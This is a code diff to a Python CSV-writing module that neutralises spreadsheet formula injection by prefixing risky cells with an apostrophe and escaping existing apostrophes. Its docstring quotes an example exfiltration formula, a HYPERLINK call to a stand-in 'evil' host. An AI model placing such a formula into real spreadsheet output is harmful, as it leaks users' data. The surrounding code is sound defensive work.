@@ -4,8 +4,9 @@ People open metadata, id maps, predictions and link reports in Excel or LibreOff
 starts with `=`, `+`, `-` or `@` (and some with a leading tab or carriage return) as a formula: a file name
 or free-text cell such as `=HYPERLINK("http://evil/?"&A1)` would leak data or run commands (OWASP "CSV
 injection"). Such cells are written with a leading apostrophe, the usual neutralisation that spreadsheets
-display as plain text; numbers (`-1`, `+2.5`, `-1e-3`) are written as they are. `read_cell` undoes it for
-loscat-hf's own readers (e.g. `predict --resume` reading its earlier output).
+display as plain text; numbers (`-1`, `+2.5`, `-1e-3`) are written as they are. A value that itself starts
+with an apostrophe gets one more, so `read_cell`, which undoes it for loscat-hf's own readers (e.g.
+`predict --resume` reading its earlier output), gives back exactly what was written.
 """
 
 from __future__ import annotations
@@ -16,12 +17,13 @@ from collections.abc import Iterable, Mapping
 from typing import Any, TextIO
 
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_ESCAPED = (*_FORMULA_START, "'")
 _NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
 
 
 def safe_cell(value: Any) -> Any:
     """`value`, with a leading apostrophe when a spreadsheet would read it as a formula."""
-    if not isinstance(value, str) or not value or not value.startswith(_FORMULA_START):
+    if not isinstance(value, str) or not value.startswith(_ESCAPED):
         return value
     if _NUMBER.fullmatch(value):
         return value
@@ -30,7 +32,7 @@ def safe_cell(value: Any) -> Any:
 
 def read_cell(value: str) -> str:
     """Inverse of `safe_cell` for a cell read back from a CSV that loscat-hf wrote."""
-    if len(value) > 1 and value[0] == "'" and value[1] in "=+-@\t\r":
+    if len(value) > 1 and value[0] == "'" and value[1] in "=+-@\t\r'":
         return value[1:]
     return value
 
